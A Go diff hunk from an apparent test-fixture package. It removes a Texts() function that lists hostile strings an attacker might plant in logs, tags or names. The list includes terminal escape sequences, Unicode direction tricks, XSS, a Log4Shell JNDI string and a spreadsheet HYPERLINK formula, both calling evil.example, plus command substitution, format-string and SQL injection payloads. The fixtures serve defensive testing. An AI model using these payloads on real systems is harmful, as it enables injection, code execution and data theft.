@@ -174,13 +174,3 @@ func sparseTar() []byte {
 	_ = w.Close()
 	return b.Bytes()
 }
-
-// Texts are what an attacker writes where text is shown: log lines, tags, values, names.
-func Texts() []string {
-	return []string{
-		"\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1bP+q544e\x1b\\",
-		"a\rb", "a\bb", "a\x07b", "\x00", "\u009b31m", "\u202eevil\u202c", "\u2066x\u2069", "\u200b\u200d\ufeff", "\xff\xfe", "\xed\xa0\x80",
-		"line\nnew line", "\u2028", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{.Secret}}", "${jndi:ldap://evil.example/a}",
-		"=HYPERLINK(\"http://evil.example\")", "+1+1", "-1", "@SUM(1)", "| pipe | table |", "```\nfence", "]]>", "%s%n%x", "`id`", "$(id)", "' OR 1=1 --", strings.Repeat("A", 1<<20),
-	}
-}
